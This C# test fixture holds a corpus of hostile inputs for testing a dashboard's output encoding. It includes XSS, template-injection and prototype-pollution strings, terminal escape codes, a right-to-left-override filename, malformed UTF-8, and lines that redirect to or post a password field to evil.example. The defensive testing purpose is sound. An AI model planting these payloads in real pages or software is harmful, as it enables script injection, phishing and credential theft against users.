// Bytes that have harmed pages, terminals and readers. Immutable.
using System.Text;

namespace Garnet.Dashboard.Tests;

/// <summary>The corpus for everything that the page shows.</summary>
internal static class HostileText
{
    private static readonly string[] Texts =
    [
        "<script>window.pwned=1</script>",
        "<img src=x onerror=window.pwned=1>",
        "<svg onload=window.pwned=1>",
        "</textarea><script>window.pwned=1</script>",
        "--><script>window.pwned=1</script>",
        "\"><script>window.pwned=1</script>",
        "' onmouseover='window.pwned=1",
        "javascript:window.pwned=1",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        "<style>*{display:none}</style>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><input name=password>",
        "${window.pwned=1}",
        "{{constructor.constructor('window.pwned=1')()}}",
        "<!--?lit$0$-->",
        "lit$000000000$",
        "\u001b]0;pwned\u0007",
        "\u001b[31mred\u001b[0m",
        "\u202Egnp.exe",
        "a\u0000b",
        "line\r\nline\nline",
        "data: {\"second\":0}\n\ndata: x",
        "\uFEFFmark",
        "zero\u200Bwidth",
        "no\u3164ink\u2800at\u115Fall",
        "wide\u3000space\u00A0",
        "tag\U000E0041",
        "Z\u0351\u036B\u0343\u036A\u0302",
        "\U0001F468\u200D\U0001F469\u200D\U0001F467",
        "__proto__",
        "constructor",
        "toString",
        "..:/../..:",
        "",
        " ",
        new('a', 3000),
        new('[', 2000),
        "{\"__proto__\":{\"pwned\":1}}",
    ];

    /// <summary>All of it, with bytes that are no text.</summary>
    public static readonly IReadOnlyList<byte[]> All =
    [
        .. Texts.Select(Encoding.UTF8.GetBytes),
        [.. Enumerable.Range(0, 256).Select(static value => (byte)value)],
        [0xC3, 0x28],
        [0xED, 0xA0, 0x80],
        [0xF0, 0x9F],
        [0xDF, 0xFF, 0xFF, 0xFF, 0xFF],
        [0x81, 0x81, 0x81, 0x81],
    ];
}
